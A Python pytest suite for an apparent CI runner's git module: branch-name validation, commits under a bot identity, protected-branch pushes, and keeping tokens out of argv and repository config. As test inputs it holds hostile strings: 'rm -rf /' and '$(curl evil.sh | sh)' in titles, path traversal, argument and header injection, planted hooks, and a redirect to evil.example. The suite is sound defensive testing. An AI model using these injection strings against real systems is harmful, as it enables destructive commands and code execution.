"""runner.git against real git: temporary repositories with a local bare repository as origin."""

from __future__ import annotations

import base64
import http.server
import subprocess
import threading
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path

import pytest

from runner import git
from runner.errors import EXIT_CODES, GitError
from runner.git.branches import BranchNameError

NOW = datetime(2026, 1, 21, 14, 5, 33)
TOKEN = "ghs_" + "A1b2C3d4E5" * 4
BOT = ("claude[bot]", "41898282+claude[bot]@users.noreply.github.com")


def sh(cwd: Path, *args: str) -> str:
    """A plain git call for test setup (the code under test uses runner.git)."""
    cmd = ["git", "-c", "user.name=Dev", "-c", "user.email=dev@example.com", *args]
    return subprocess.run(cmd, cwd=cwd, check=True, capture_output=True, text=True).stdout.strip()


@pytest.fixture(autouse=True)
def _isolated_git_config(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # The developer's ~/.gitconfig (signing, hooks, templates) must not change the results.
    empty = tmp_path / "global.gitconfig"
    empty.write_text("")
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(empty))
    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")


@pytest.fixture
def origin(tmp_path: Path) -> Path:
    """A bare repository on ``main`` with one commit."""
    bare = tmp_path / "origin.git"
    sh(tmp_path, "init", "-q", "--bare", "-b", "main", str(bare))
    seed = tmp_path / "seed"
    sh(tmp_path, "clone", "-q", str(bare), str(seed))
    (seed / "app.py").write_text("print('hello')\n")
    (seed / ".gitignore").write_text("*.log\nbuild/\n")
    sh(seed, "add", ".")
    sh(seed, "commit", "-qm", "init")
    sh(seed, "push", "-q", "origin", "HEAD:main")
    return bare


@pytest.fixture
def ws(tmp_path: Path, origin: Path) -> Path:
    """A clone of ``origin``: the CI job's checked-out workspace."""
    path = tmp_path / "ws"
    sh(tmp_path, "clone", "-q", str(origin), str(path))
    return path


def remote_heads(origin: Path) -> dict[str, str]:
    out = subprocess.run(
        ["git", "--git-dir", str(origin), "ls-remote", "--heads", str(origin)],
        check=True,
        capture_output=True,
        text=True,
    ).stdout
    return {ref.removeprefix("refs/heads/"): sha for sha, ref in (ln.split("\t") for ln in out.splitlines())}


# --- branch names ------------------------------------------------------------------------------

GOOD_NAMES = ["claude/issue-42-20260121-1405", "feature/x.y", "a@b", "fix/ünïcode", "v1.2_3+4,5#6", "a-"]
BAD_NAMES = [
    "",
    "-rf",
    "a..b",
    "a~1",
    "a^b",
    "a:b",
    "a?b",
    "a*b",
    "a[b",
    "a\\b",
    "a b",
    "a\tb",
    "a\x7fb",
    "x.lock",
    "a/x.lock/b",
    "a/",
    "a.",
    "/a",
    "a//b",
    ".a",
    "a/.b",
    "a@{b",
    "@",
    "x" * 300,
]


@pytest.mark.parametrize("name", GOOD_NAMES)
def test_valid_branch_names_pass_and_git_agrees(name: str, tmp_path: Path) -> None:
    assert git.validate_branch_name(name) == name
    subprocess.run(
        ["git", "check-ref-format", "--branch", name], cwd=tmp_path, check=True, capture_output=True
    )


@pytest.mark.parametrize("name", BAD_NAMES)
def test_invalid_branch_names_are_refused(name: str) -> None:
    with pytest.raises(BranchNameError, match="invalid branch name"):
        git.validate_branch_name(name)


@pytest.mark.parametrize("name", [n for n in BAD_NAMES if n not in ("", "@", "x" * 300)])
def test_git_refuses_what_we_refuse(name: str, tmp_path: Path) -> None:
    proc = subprocess.run(["git", "check-ref-format", "--branch", name], cwd=tmp_path, capture_output=True)
    assert proc.returncode != 0


def test_branch_name_error_is_a_value_error_and_a_git_error() -> None:
    with pytest.raises(ValueError):
        git.validate_branch_name("a..b")
    assert issubclass(BranchNameError, GitError)
    assert GitError.exit_code == 8 and EXIT_CODES[8]


def test_default_branch_name_format() -> None:
    assert git.render_branch_name(None, number=42, now=NOW) == "claude/issue-42-20260121-1405"
    assert git.render_branch_name("  ", entity="pr", number=7, now=NOW) == "claude/pr-7-20260121-1405"
    assert git.render_branch_name(None, prefix="Bot/", number=1, now=NOW) == "bot/issue-1-20260121-1405"
    long = git.render_branch_name(None, prefix="a-very-long-team-prefix-for-bots/", number=123456, now=NOW)
    assert len(long) == 50 and long.startswith("a-very-long-team-prefix-for-bots/issue-123456-")


def test_two_runs_in_the_same_minute_get_different_branches() -> None:
    first = git.render_branch_name(None, number=42, now=NOW, run_id="12345678901")
    second = git.render_branch_name(None, number=42, now=NOW, run_id="12345678902")
    assert first == "claude/issue-42-20260121-1405-2345678901"
    assert second != first
    long = git.render_branch_name(
        None, prefix="a-very-long-team-prefix-for-bots/", number=123456, now=NOW, run_id="98765"
    )
    assert len(long) <= 50 and long.endswith("-98765")
    assert (
        git.render_branch_name("{{prefix}}run-{{runId}}", number=1, now=NOW, run_id="777") == "claude/run-777"
    )


def test_template_with_every_variable() -> None:
    template = "{{prefix}}{{entityType}}/{{entityNumber}}-{{timestamp}}-{{sha}}-{{label}}-{{description}}"
    name = git.render_branch_name(
        template,
        entity="pr",
        number=9,
        now=NOW,
        sha="0123456789abcdef0123",
        label="area:permissions",
        description="Fix the Login Page crash on Safari",
    )
    assert name == "claude/pr/9-20260121-1405-01234567-area-permissions-fix-the-login-page-crash"


def test_template_label_falls_back_to_entity_type_and_empty_segments_collapse() -> None:
    assert git.render_branch_name("{{label}}/{{entityNumber}}", number=3, now=NOW) == "issue/3"
    emoji_title = git.render_branch_name(
        "{{prefix}}{{description}}/{{entityNumber}}", number=5, now=NOW, description="🚀🚀"
    )
    assert emoji_title == "claude/5"
    assert git.render_branch_name("{{description}}", number=5, now=NOW) == "claude/issue-5-20260121-1405"


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ('"; rm -rf / #', "rm-rf"),
        ("$(curl evil.sh | sh) `id`", "curl-evil-sh-sh-id"),
        ("Fix café ünïcode naïve bug", "fix-cafe-unicode-naive-bug"),
        ("../../etc/passwd --force", "etc-passwd-force"),
        ("Ünïcode 日本語 title", "unicode-title"),
    ],
)
def test_hostile_titles_are_slugified(title: str, expected: str) -> None:
    name = git.render_branch_name("{{prefix}}{{description}}", number=1, now=NOW, description=title)
    assert name == f"claude/{expected}"


def test_very_long_title_is_capped() -> None:
    title = " ".join(["supercalifragilisticexpialidocious"] * 5)
    name = git.render_branch_name("{{description}}", number=1, now=NOW, description=title)
    assert len(name) <= 50 and name == "supercalifragilisticexpialidocious"
    assert len(git.slugify("x" * 80, max_length=50)) == 50


def test_template_errors() -> None:
    with pytest.raises(BranchNameError, match="unknown variable"):
        git.render_branch_name("{{prefix}}{{branch}}", number=1, now=NOW)
    with pytest.raises(BranchNameError, match=r"'\.\.'"):
        git.render_branch_name("{{prefix}}x", prefix="a..b/", number=1, now=NOW)


# --- workspace state ---------------------------------------------------------------------------


def test_workspace_state(ws: Path) -> None:
    assert git.current_branch(ws) == "main"
    assert git.head_sha(ws) == sh(ws, "rev-parse", "HEAD")
    assert git.default_branch(ws) == "main"
    assert git.default_branch(ws, remote="upstream", fallback="trunk") == "trunk"
    with pytest.raises(GitError, match="default branch"):
        git.default_branch(ws, remote="upstream")
    sh(ws, "checkout", "-q", "--detach")
    assert git.current_branch(ws) is None


def test_changes_tracked_untracked_and_ignored(ws: Path) -> None:
    assert not git.has_changes(ws)
    assert git.changed_files(ws) == []
    (ws / "debug.log").write_text("ignored\n")
    (ws / "build").mkdir()
    (ws / "build" / "out.bin").write_text("ignored\n")
    assert not git.has_changes(ws)
    (ws / "app.py").write_text("print('bye')\n")
    (ws / "pkg" / "sub").mkdir(parents=True)
    (ws / "pkg" / "sub" / "new file ü.py").write_text("x = 1\n")
    assert git.has_changes(ws)
    assert git.changed_files(ws) == ["app.py", "pkg/sub/new file ü.py"]
    sh(ws, "mv", "app.py", "main.py")  # a staged rename lists both sides
    assert git.changed_files(ws) == ["app.py", "main.py", "pkg/sub/new file ü.py"]


def test_run_git_error_names_the_subcommand_and_redacts(ws: Path) -> None:
    with pytest.raises(GitError) as info:
        git.run_git(["rev-parse", "--verify", "no-such-ref"], ws)
    assert "git rev-parse failed" in info.value.message and "\n" not in info.value.message
    with pytest.raises(GitError) as info:
        git.run_git(["fetch", f"https://x-access-token:{TOKEN}@127.0.0.1:9/o/r.git"], ws, timeout=20)
    assert "git fetch failed" in info.value.message and TOKEN not in info.value.message


# --- commit ------------------------------------------------------------------------------------


def test_commit_all_uses_bot_identity_and_trailers(ws: Path) -> None:
    (ws / "app.py").write_text("print('fixed')\n")
    (ws / "new.py").write_text("y = 2\n")
    sha = git.commit_all(
        ws,
        "Fix greeting\n\nLonger body.",
        author_name=BOT[0],
        author_email=BOT[1],
        co_authors=[
            ("Octo Cat", "1+octocat@users.noreply.github.com"),
            ("Octo Cat", "1+octocat@users.noreply.github.com"),
        ],
    )
    assert sha == sh(ws, "rev-parse", "HEAD")
    log = sh(ws, "log", "-1", "--format=%an|%ae|%cn|%ce")
    assert log == f"{BOT[0]}|{BOT[1]}|{BOT[0]}|{BOT[1]}"
    body = sh(ws, "log", "-1", "--format=%B")
    assert body.startswith("Fix greeting\n\nLonger body.\n\n")
    assert body.count("Co-authored-by: Octo Cat <1+octocat@users.noreply.github.com>") == 1
    trailers = sh(ws, "log", "-1", "--format=%(trailers:key=Co-authored-by,valueonly)")
    assert trailers == "Octo Cat <1+octocat@users.noreply.github.com>"
    assert sh(ws, "show", "--name-only", "--format=", "HEAD").splitlines() == ["app.py", "new.py"]
    assert not git.has_changes(ws)


def test_commit_all_without_changes_returns_none(ws: Path) -> None:
    before = git.head_sha(ws)
    (ws / "ignored.log").write_text("x\n")
    assert git.commit_all(ws, "nothing", author_name=BOT[0], author_email=BOT[1]) is None
    assert git.head_sha(ws) == before


def test_commit_all_rejects_header_injection_in_identity(ws: Path) -> None:
    (ws / "a.txt").write_text("a\n")
    with pytest.raises(GitError, match="co-author"):
        git.commit_all(
            ws, "m", author_name=BOT[0], author_email=BOT[1], co_authors=[("x\nSigned-off-by: y", "e")]
        )


@pytest.mark.parametrize("where", ["dot-git-hooks", "core.hooksPath"])
def test_commit_and_push_do_not_run_hooks_planted_by_the_agent(ws: Path, tmp_path: Path, where: str) -> None:
    marker = tmp_path / "hook-ran"
    hooks = ws / ".git" / "hooks"
    if where == "core.hooksPath":
        hooks = tmp_path / "evil-hooks"
        hooks.mkdir()
        sh(ws, "config", "core.hooksPath", str(hooks))
    # --no-verify alone would still run prepare-commit-msg, post-commit, post-checkout, pre-push.
    for hook in (
        "pre-commit",
        "prepare-commit-msg",
        "commit-msg",
        "post-commit",
        "post-checkout",
        "pre-push",
    ):
        (hooks / hook).write_text(f"#!/bin/sh\necho \"$0\" >> '{marker}'\nexit 1\n")
        (hooks / hook).chmod(0o755)
    (ws / "app.py").write_text("print('changed')\n")
    assert git.commit_all(ws, "change", author_name=BOT[0], author_email=BOT[1]) is not None
    git.checkout_new_branch(ws, "claude/issue-1", "HEAD")
    git.push(ws, "claude/issue-1", remote_url=str(tmp_path / "origin.git"), token=None, protected=["main"])
    assert not marker.exists()


def test_config_changed_during_the_turn_is_refused(ws: Path) -> None:
    fingerprint = git.config_fingerprint(ws)
    (ws / "app.py").write_text("print('changed')\n")
    sh(ws, "config", "url.https://evil.example/.insteadOf", "https://github.com/")
    with pytest.raises(GitError, match="configuration changed"):
        git.commit_all(ws, "m", author_name=BOT[0], author_email=BOT[1], expect_config=fingerprint)
    sh(ws, "config", "--unset", "url.https://evil.example/.insteadOf")
    assert git.commit_all(ws, "m", author_name=BOT[0], author_email=BOT[1], expect_config=fingerprint)


# --- branches and diffs ------------------------------------------------------------------------


def test_merge_base_diff_shows_only_the_branch_changes(ws: Path, origin: Path, tmp_path: Path) -> None:
    git.checkout_new_branch(ws, "claude/issue-1-20260121-1405", "origin/main")
    assert git.current_branch(ws) == "claude/issue-1-20260121-1405"
    (ws / "feature.py").write_text("FEATURE = True\n")
    git.commit_all(ws, "feature", author_name=BOT[0], author_email=BOT[1])
    other = tmp_path / "other"
    sh(tmp_path, "clone", "-q", str(origin), str(other))
    (other / "later.py").write_text("LATER_ON_MAIN = 1\n")
    sh(other, "add", ".")
    sh(other, "commit", "-qm", "later on main")
    sh(other, "push", "-q", "origin", "main")
    git.fetch(ws, "main")

    diff = git.merge_base_diff(ws, "origin/main")
    assert "+FEATURE = True" in diff and "LATER_ON_MAIN" not in diff
    assert git.diff_names(ws, "origin/main") == ["feature.py"]
    assert "feature.py | 1 +" in git.diff_stat(ws, "origin/main")
    cut = git.merge_base_diff(ws, "origin/main", max_bytes=40)
    assert len(cut.split("[... diff truncated")[0].encode()) <= 40
    assert f"of {len(diff.encode())} bytes shown" in cut
    with pytest.raises(GitError, match="invalid git revision"):
        git.merge_base_diff(ws, "--output=/tmp/x")


def test_checkout_existing_branch_tracks_the_remote(ws: Path, origin: Path, tmp_path: Path) -> None:
    other = tmp_path / "other"
    sh(tmp_path, "clone", "-q", str(origin), str(other))
    sh(other, "checkout", "-qb", "feature/pr-head")
    (other / "pr.py").write_text("PR = 1\n")
    sh(other, "add", ".")
    sh(other, "commit", "-qm", "pr work")
    sh(other, "push", "-q", "origin", "feature/pr-head")

    git.checkout_existing_branch(ws, "feature/pr-head")
    assert git.current_branch(ws) == "feature/pr-head"
    assert git.head_sha(ws) == sh(other, "rev-parse", "HEAD")
    assert sh(ws, "rev-parse", "--abbrev-ref", "@{upstream}") == "origin/feature/pr-head"
    with pytest.raises(BranchNameError):
        git.checkout_existing_branch(ws, "--upload-pack=evil")


def test_fetch_keeps_a_full_clone_full_and_deepens_a_shallow_one(origin: Path, tmp_path: Path) -> None:
    full = tmp_path / "full"
    sh(tmp_path, "clone", "-q", str(origin), str(full))
    assert not git.is_shallow(full)
    assert git.fetch(full, "main", depth=1) == "refs/remotes/origin/main"
    assert not git.is_shallow(full)
    shallow = tmp_path / "shallow"
    sh(tmp_path, "clone", "-q", "--depth=1", f"file://{origin}", str(shallow))
    assert git.is_shallow(shallow)
    git.fetch(shallow, "main", remote_url=f"file://{origin}", depth=5)
    with pytest.raises(BranchNameError):
        git.fetch(full, "main", remote="-x")


# --- push --------------------------------------------------------------------------------------


def test_push_creates_the_branch_and_refuses_the_default(ws: Path, origin: Path) -> None:
    git.checkout_new_branch(ws, "claude/issue-7-20260121-1405", "origin/main")
    (ws / "x.py").write_text("X = 1\n")
    sha = git.commit_all(ws, "x", author_name=BOT[0], author_email=BOT[1])
    git.push(ws, "claude/issue-7-20260121-1405", remote_url=str(origin), token=None, protected=["main"])
    assert remote_heads(origin)["claude/issue-7-20260121-1405"] == sha
    for branch in ("main", "refs/heads/main"):
        with pytest.raises(GitError, match="protected branch 'main'"):
            git.push(ws, branch, remote_url=str(origin), token=None, protected=["main"])
    assert remote_heads(origin)["main"] != sha


def test_non_fast_forward_push_is_a_clear_error(ws: Path, origin: Path, tmp_path: Path) -> None:
    git.checkout_new_branch(ws, "claude/pr-3", "origin/main")
    (ws / "a.py").write_text("A = 1\n")
    git.commit_all(ws, "a", author_name=BOT[0], author_email=BOT[1])
    git.push(ws, "claude/pr-3", remote_url=f"file://{origin}", token=None, protected=["main"])
    other = tmp_path / "other"
    sh(tmp_path, "clone", "-q", "-b", "claude/pr-3", str(origin), str(other))
    (other / "b.py").write_text("B = 1\n")
    sh(other, "add", ".")
    sh(other, "commit", "-qm", "someone else")
    sh(other, "push", "-q", "origin", "claude/pr-3")

    (ws / "c.py").write_text("C = 1\n")
    git.commit_all(ws, "c", author_name=BOT[0], author_email=BOT[1])
    with pytest.raises(GitError, match="someone pushed meanwhile"):
        git.push(ws, "claude/pr-3", remote_url=str(origin), token=None, protected=["main"])
    git.push(ws, "claude/pr-3", remote_url=str(origin), token=None, protected=["main"], force=True)
    assert remote_heads(origin)["claude/pr-3"] == git.head_sha(ws)


def test_push_command_keeps_the_token_out_of_argv(ws: Path, origin: Path) -> None:
    url = "https://github.com/o/r.git"
    args, env = git.push_command("claude/x", remote_url=url, token=TOKEN, protected=["main"])
    assert args == ["push", "--no-verify", "--porcelain", url, "HEAD:refs/heads/claude/x"]
    assert not any(TOKEN in a for a in args)
    basic = base64.b64encode(f"x-access-token:{TOKEN}".encode()).decode()
    assert env["GIT_CONFIG_KEY_1"] == f"http.{url}.extraHeader"
    assert env["GIT_CONFIG_VALUE_1"] == f"Authorization: Basic {basic}"
    assert env["GIT_CONFIG_VALUE_0"] == "" and env["GIT_CONFIG_COUNT"] == "3"
    with pytest.raises(GitError, match="must not contain credentials"):
        git.push_command("claude/x", remote_url=f"https://x:{TOKEN}@github.com/o/r", token=None, protected=[])
    with pytest.raises(GitError, match="whitespace"):
        git.push_command("claude/x", remote_url=url, token="tok\r\nX-Evil: 1", protected=[])
    # Local remotes need no header; the token never lands in the repository's config.
    assert git.push_command("claude/x", remote_url=str(origin), token=TOKEN, protected=[])[1] == {}
    git.checkout_new_branch(ws, "claude/x", "HEAD")
    git.push(ws, "claude/x", remote_url=str(origin), token=TOKEN, protected=["main"])
    assert TOKEN not in (ws / ".git" / "config").read_text()
    assert basic not in (ws / ".git" / "config").read_text()


@pytest.fixture
def http_remote() -> Iterator[tuple[str, list[list[str]]]]:
    """A loopback HTTP 'git server' that records Authorization headers and answers 403."""
    seen: list[list[str]] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.append(self.headers.get_all("Authorization") or [])
            self.send_response(403)
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}/o/r.git", seen
    finally:
        server.shutdown()
        server.server_close()


def test_push_sends_only_our_header_to_the_remote(ws: Path, http_remote: tuple[str, list[list[str]]]) -> None:
    url, seen = http_remote
    host = url.split("/o/")[0] + "/"
    sh(ws, "config", f"http.{host}.extraheader", "AUTHORIZATION: basic c3RhbGU=")  # like actions/checkout
    git.checkout_new_branch(ws, "claude/y", "HEAD")
    with pytest.raises(GitError) as info:
        git.push(ws, "claude/y", remote_url=url, token=TOKEN, protected=["main"])
    assert TOKEN not in info.value.message
    basic = base64.b64encode(f"x-access-token:{TOKEN}".encode()).decode()
    assert seen and all(headers == [f"Basic {basic}"] for headers in seen)


# --- credentials left by the checkout ----------------------------------------------------------


def test_strip_persisted_credentials(ws: Path, tmp_path: Path) -> None:
    sh(ws, "config", "http.https://github.com/.extraheader", "AUTHORIZATION: basic eC1hY2Nlc3M=")
    sh(ws, "remote", "add", "gh", f"https://x-access-token:{TOKEN}@github.com/o/r")
    sh(ws, "config", "remote.gh.pushurl", f"https://oauth2:{TOKEN}@github.com/o/r.git")
    sh(ws, "config", f"url.https://x:{TOKEN}@github.com/.insteadOf", "https://github.com/")
    included = tmp_path / "checkout-credentials.config"
    included.write_text('[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic eA==\n')
    sh(ws, "config", "includeIf.gitdir:/.path", str(included))

    removed = git.strip_persisted_credentials(ws)
    assert "http.https://github.com/.extraheader" in removed
    assert {"remote.gh.url", "remote.gh.pushurl"} <= set(removed)
    assert any(name.endswith(":http.https://github.com/.extraheader") for name in removed)
    assert not any(TOKEN in name for name in removed)
    assert sh(ws, "config", "remote.gh.url") == "https://github.com/o/r"
    assert sh(ws, "config", "remote.gh.pushurl") == "https://github.com/o/r.git"
    assert sh(ws, "config", "remote.origin.url").endswith("origin.git")  # a path: untouched
    config = (ws / ".git" / "config").read_text()
    assert TOKEN not in config and "extraheader" not in config.lower()
    assert "extraheader" not in included.read_text()
    assert git.strip_persisted_credentials(ws) == []
